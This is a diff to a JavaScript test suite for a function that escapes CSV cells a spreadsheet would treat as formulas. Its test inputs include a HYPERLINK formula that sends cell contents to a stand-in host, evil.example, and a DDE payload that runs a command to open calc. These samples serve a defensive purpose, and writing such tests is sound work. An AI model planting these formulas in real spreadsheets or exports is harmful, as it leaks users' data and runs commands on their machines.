@@ -5,7 +5,7 @@ describe('csvSafeCell: a cell a spreadsheet would read as a formula is written a
   it.each([
     ['=HYPERLINK("http://evil.example/?d="&A2&B2,"x")', `'=HYPERLINK("http://evil.example/?d="&A2&B2,"x")`],
     ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
-    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
     ['@SUM(1,2)', "'@SUM(1,2)"],
     ['\t=1+1', "'\t=1+1"],
     ['\r=1+1', "'\r=1+1"],
